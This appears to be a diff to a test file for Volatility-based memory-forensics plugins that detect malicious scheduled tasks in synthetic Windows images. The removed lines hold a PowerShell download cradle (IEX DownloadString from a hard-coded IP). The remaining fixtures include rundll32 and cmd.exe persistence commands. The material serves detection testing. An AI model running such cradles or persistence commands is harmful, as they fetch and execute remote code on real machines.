@@ -4,11 +4,17 @@ missing kernel symbol table gives one clear gap instead of a traceback."""
 from __future__ import annotations
 
 import hashlib
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
 
 from Registry import Registry
 
-from test_images.memimage import build_memory_image
-from tests.memory.conftest import run_collector
+from test_images.memimage import CRADLE, DISK_TASK_GUID, WIN7_CRADLE, WIN7_HOSTNAME, build_memory_image
+from test_images.windows_tree import C2_URL, DOWNLOAD_CRADLE, HOSTNAME
+from tests.memory.conftest import ROOT, run_collector
 
 
 def test_stock_pslist_psscan_cmdline_agree_with_the_image(images, win10, vol):
@@ -16,8 +22,8 @@ def test_stock_pslist_psscan_cmdline_agree_with_the_image(images, win10, vol):
     pslist = {r["PID"]: r["ImageFileName"] for r in vol(built, "windows.pslist")}
     psscan = {r["PID"]: r for r in vol(built, "windows.psscan")}
     cmdline = {r["PID"]: r["Args"] for r in vol(built, "windows.cmdline")}
-    assert len(pslist) == 16 and 6044 not in pslist
-    assert set(psscan) == set(pslist) | {6044}
+    assert len(pslist) == 18 and 6044 not in pslist
+    assert set(psscan) == set(pslist) | {6044, 7508}
     assert psscan[6044]["ExitTime"].startswith("2024-05-14T09:12:13")
     for pid, proc in win10.processes.items():
         if pid in cmdline:
@@ -35,13 +41,51 @@ def test_stock_hivelist_dump_is_a_hive_python_registry_reads(images, vol, tmp_pa
     assert len(tasks.subkeys()) == 4
 
 
-def test_vol_cli_runs_triage_plugins(images, vol):
-    rows = {r["PID"]: r for r in vol(images["win10"], "taskprocs.TaskProcs", plugins=True)}
-    assert rows[5120]["Task"] == r"\WinUpdateCheck"
-    assert rows[5120]["Decoded"] == "IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.47/a.ps1')"
-    assert rows[6044]["Seen"] == "psscan" and rows[7016]["Flags"] == "task_not_in_registry,user_writable_path"
-    tasks = {r["Task"]: r for r in vol(images["win7"], "taskcache_mem.TaskCacheMem", plugins=True)}
+def _package_plugin_dir() -> str:
+    """What `python -m triage.volplugins --path` prints (run as a user would, from the checkout)."""
+    done = subprocess.run([sys.executable, "-m", "triage.volplugins", "--path"], capture_output=True, text=True,
+                          cwd=str(ROOT), check=True)
+    return done.stdout.strip()
+
+
+def test_volplugins_path_is_the_package_folder_holding_both_plugins():
+    folder = Path(_package_plugin_dir())
+    assert folder == ROOT / "triage" / "volplugins"
+    assert {p.name for p in folder.glob("*.py")} >= {"taskprocs.py", "taskcache_mem.py"}
+
+
+@pytest.mark.parametrize("plugin_dir", ["package", "plugins"])
+def test_vol_cli_runs_triage_plugins(images, vol, plugin_dir):
+    """`vol -p` on its own shows what triage's case shows: tasks (linked or not), decoded payloads, the
+    Schedule host from the service records, the task rebuilt from the exited schtasks.exe, the host name."""
+    folder = _package_plugin_dir() if plugin_dir == "package" else "plugins"
+    rows = {(r["PID"], r["Role"]): r for r in vol(images["win10"], "taskprocs.TaskProcs", plugins=folder)}
+    assert rows[(5120, "task_process")]["Task"] == r"\WinUpdateCheck"
+    assert rows[(5120, "task_process")]["Decoded"] == CRADLE
+    assert rows[(6044, "descendant")]["Seen"] == "psscan"
+    assert rows[(7016, "task_process")]["Flags"] == "task_not_in_registry,user_writable_path"
+    cradle = rows[(7412, "descendant")]
+    assert cradle["Task"] == f"(running task) {DISK_TASK_GUID}" and cradle["Decoded"] == DOWNLOAD_CRADLE
+    assert cradle["DecodedURLs"] == C2_URL and cradle["Host"] == HOSTNAME
+    assert cradle["Ancestry"] == "wininit.exe (524) > services.exe (668) > svchost.exe (1236) > taskhostw.exe (7400)"
+    assert rows[(1236, "schedule_host")]["HostReason"].startswith("Service Control Manager record (svcscan")
+    rebuilt = rows[(6044, "creates_task")]
+    assert rebuilt["Task"] == r"\Microsoft\Windows\Maintenance\SyncData"
+    assert rebuilt["Link"] == r"task rebuilt from this command line: exec: rundll32.exe C:\Users\Public\Libraries\x.dll,StartW"
+    assert rebuilt["Seen"] == "psscan"
+    win7 = {(r["PID"], r["Role"]): r for r in vol(images["win7"], "taskprocs.TaskProcs", plugins=folder)}
+    assert win7[(2536, "task_process")]["Decoded"] == WIN7_CRADLE and win7[(2536, "task_process")]["Host"] == WIN7_HOSTNAME
+    assert win7[(2000, "creates_task")]["Task"] == r"\AdobeFlashSync"
+    tasks = {r["Task"]: r for r in vol(images["win7"], "taskcache_mem.TaskCacheMem", plugins=folder)}
     assert tasks[r"\AdobeFlashSync"]["Actions"] == r'exec: cmd.exe /c "C:\Windows\Temp\bk.bat"'
+
+
+def test_stock_svcscan_reads_the_service_records_the_builder_wrote(images, vol):
+    for name, schedule_pid, binary in (("win10", 1236, r"%SystemRoot%\system32\svchost.exe -k netsvcs -p -s Schedule"),
+                                       ("win7", 900, r"%SystemRoot%\system32\svchost.exe -k netsvcs")):
+        rows = {r["Name"]: r for r in vol(images[name], "windows.svcscan")}
+        assert rows["Schedule"]["PID"] == schedule_pid and rows["Schedule"]["State"] == "SERVICE_RUNNING"
+        assert rows["Schedule"]["Binary"] == binary and rows["Schedule"]["Display"] == "Task Scheduler"
 
 
 def test_missing_kernel_symbols_give_one_gap_naming_pdb_guid_and_age(images, tmp_path, capsys):
